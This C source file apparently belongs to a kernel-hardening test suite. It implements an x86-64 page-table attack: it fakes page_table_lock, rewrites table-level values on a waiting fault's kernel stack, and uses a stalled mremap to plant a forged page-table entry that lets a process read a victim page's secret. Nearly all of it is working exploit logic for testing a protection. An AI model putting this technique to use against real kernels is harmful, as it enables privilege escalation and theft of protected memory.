// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on the section that links the tables of an address. How many there are lies
 * on the stack of a fault while it waits for mm->page_table_lock, which is made to
 * look held. With four levels it is made to link five: then the CPU takes each for
 * one of the level below, and the last one for a page, which the process writes.
 * mremap() is held up in the same way and moves that into the place of a table.
 */
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define VICTIM_CPU	1
#define FIRST_SLOT	0xb1		/* of a top-level table, by 512 GiB */
#define SAME_SLOT	0xb3		/* of tables of all levels */
#define MOVED_SLOT	0xb5
#define CHAIN_WORDS	6		/* struct chain: the level, and frames by level */
#define MOST_FRAMES	(1UL << 28)
#define PAGE_LOCK	40		/* of a table, in its struct page */
#define LOCKED		1
#define STEPS		50		/* milliseconds */
#define FORGED_AT	64

static struct {
	volatile int go, done;
	uint64_t entry;
	char text[SECRET_SIZE];
} *shared;

static uint64_t address(int top, int others)
{
	return (uint64_t)top << 39 | (uint64_t)others << 30 | (uint64_t)others << 21 |
	       (uint64_t)others << 12;
}

static volatile char *map(uint64_t addr, size_t size)
{
	void *page = mmap((void *)addr, size, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

	if (page != (void *)addr)
		_exit(1);
	madvise(page, size, MADV_NOHUGEPAGE);
	return page;
}

static void wait_for(int step)
{
	while (shared->go < step)
		;
}

/* Nobody is to walk its tables at the end, which the kernel cannot free. */
static void forget(const volatile char *page)
{
	uint64_t vma = find_vma(page), end = address(FIRST_SLOT, 0) + PAGE_SIZE;

	if (vma) {
		kwrite64(vma, end);
		kwrite64(vma + 8, end);
	}
}

static void run_child(void)
{
	volatile char *first, *same, *from;
	char *to;

	stay_on_cpu(VICTIM_CPU);
	first = map(address(FIRST_SLOT, 0), PAGE_SIZE);
	same = map(address(SAME_SLOT, SAME_SLOT), PAGE_SIZE);
	from = map(address(MOVED_SLOT, 0), PMD_SIZE);
	to = (char *)from + 4 * PMD_SIZE;
	*from = 1;
	shared->done = 1;
	wait_for(1);
	*first = 1;
	shared->done = 2;
	wait_for(2);
	(void)same[0];
	*(volatile uint64_t *)(same + FORGED_AT * 8) = shared->entry;
	shared->done = 3;
	wait_for(3);
	if (mremap((void *)from, PMD_SIZE, PMD_SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, to) == to) {
		shared->done = 4;
		snprintf(shared->text, sizeof(shared->text), "%s",
			 to + FORGED_AT * PAGE_SIZE);
	}
	shared->done = 5;
	forget(same);
	shared->done = 6;
	for (;;)
		pause();
}

struct target {
	pid_t pid;
	struct task task;
	uint64_t lock;		/* mm->page_table_lock */
	uint64_t words[2048];
};

/* In a guest nothing shows who waits. */
static bool hold(uint64_t lock, int step)
{
	uint32_t value = LOCKED;

	if (kwrite(lock, &value, sizeof(value)))
		return false;
	shared->go = step;
	usleep(STEPS * 1000);
	return shared->done == step;
}

static void release(uint64_t lock)
{
	kwrite(lock, &(char){ 0 }, 1);
}

static void read_stack(struct target *t)
{
	size_t i;

	for (i = 0; i < t->task.stack_size; i += PAGE_SIZE)
		kread(t->task.stack + i, (char *)t->words + i, PAGE_SIZE);
}

static bool is_frame(uint64_t value)
{
	return value > 16 && value < MOST_FRAMES;
}

/* Tables that are missing: three, from the lowest to that below the top. */
static int find_chain(struct target *t)
{
	size_t i, n = t->task.stack_size / 8 - CHAIN_WORDS;
	const uint64_t *w;

	read_stack(t);
	for (i = 0; i < n; i++) {
		w = t->words + i;
		if ((uint32_t)w[0] == LEVEL_PUD && is_frame(w[2]) && is_frame(w[3]) &&
		    is_frame(w[4]) && w[2] != w[3] && w[3] != w[4] &&
		    !kread64(direct_map_base() + w[2] * PAGE_SIZE) &&
		    !kread64(direct_map_base() + w[3] * PAGE_SIZE))
			return i;
	}
	return -1;
}

static void store_word(struct target *t, int i, uint64_t value, size_t size)
{
	kwrite(t->task.stack + i * 8, &value, size);
}

static void wait_done(int step)
{
	int i;

	for (i = 0; i < STEPS && shared->done < step; i++)
		usleep(10000);
}

static int change_pointers(struct target *t, uint64_t from, uint64_t to)
{
	int i, n = 0;

	read_stack(t);
	for (i = 0; i < (int)(t->task.stack_size / 8); i++) {
		if (t->words[i] != from)
			continue;
		store_word(t, i, to, sizeof(to));
		n++;
	}
	return n;
}

/* The faults wait one after the other; returns where the chain is, or -1. */
static int catch_fault(struct target *t, int step)
{
	return hold(t->lock, step) ? find_chain(t) : -1;
}

static void go_on(struct target *t, int step)
{
	release(t->lock);
	wait_done(step);
}

/* Taken from the pool, and by a chain of no tables linked by nobody: frame, or 0. */
static uint64_t make_spare(struct target *t)
{
	int at = catch_fault(t, 1);
	uint64_t spare = at < 0 ? 0 : t->words[at + 2];

	if (spare)
		store_word(t, at, 0, sizeof(uint32_t));
	go_on(t, 2);
	return spare;
}

/* Returns false without a fault; else the frames of two of its tables. */
static bool link_one_more(struct target *t, uint64_t spare, uint64_t *leaf, uint64_t *table)
{
	int at = catch_fault(t, 2);

	if (at < 0)
		return false;
	*leaf = t->words[at + 2];
	*table = t->words[at + 3];
	store_word(t, at, LEVEL_P4D, sizeof(uint32_t));
	store_word(t, at + 1 + LEVEL_P4D, spare, sizeof(spare));
	go_on(t, 3);
	return true;
}

/* The entry at this address is moved as if it led to a table. */
static enum outcome move_entry(struct target *t, uint64_t entry)
{
	struct slot slot;
	uint64_t lock;
	int n;

	if (kwalk(address(MOVED_SLOT, 0), LEVEL_PMD, t->pid, &slot))
		return broken("no table to be moved");
	lock = page_of(slot.slot) + PAGE_LOCK;
	if (!hold(lock, 3))
		return won("wrote 0x%lx to a page table, and nobody waited for its move", shared->entry);
	n = change_pointers(t, slot.slot, entry);
	release(lock);
	wait_done(6);
	if (!shared->text[0])
		return won("wrote 0x%lx to a page table, not moved by %d pointers, step %d",
			   shared->entry, n, shared->done);
	return judge_secret(shared->text, 0);
}

static enum outcome run_attack(struct target *t)
{
	uint64_t spare = make_spare(t), leaf, table, entry;

	if (!spare)
		return broken("no fault waited with a chain");
	if (!link_one_more(t, spare, &leaf, &table))
		return broken("no second fault waited with a chain");
	entry = direct_map_base() + table * PAGE_SIZE + SAME_SLOT * 8;
	if (kread64(direct_map_base() + leaf * PAGE_SIZE + FORGED_AT * 8) != shared->entry)
		return lost("no entry in the table: step %d, 0x%lx leads to frame 0x%lx", shared->done,
			    kread64(entry), leaf);
	return move_entry(t, entry);
}

enum outcome levels_of_chain(void)
{
	static struct target t;
	uint64_t mmap_lock;

	if (!is_protected())
		return steal_secret(&(struct store){ 0 });
	if (top_level() == LEVEL_PGD)
		return skipped("five levels");
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW;
	stay_on_cpu(0);
	t.pid = fork();
	if (!t.pid)
		run_child();
	wait_done(1);
	if (ktask(t.pid, &t.task))
		return broken("no task");
	mmap_lock = find_mmap_lock(t.task.mm);
	t.lock = mmap_lock - sizeof(uint32_t);
	if (!mmap_lock || (uint32_t)kread64(t.lock & ~7UL) == ~0U)
		return broken("no lock");
	return run_attack(&t);
}
#else
enum outcome levels_of_chain(void)
{
	return skipped("x86-64 only");
}
#endif
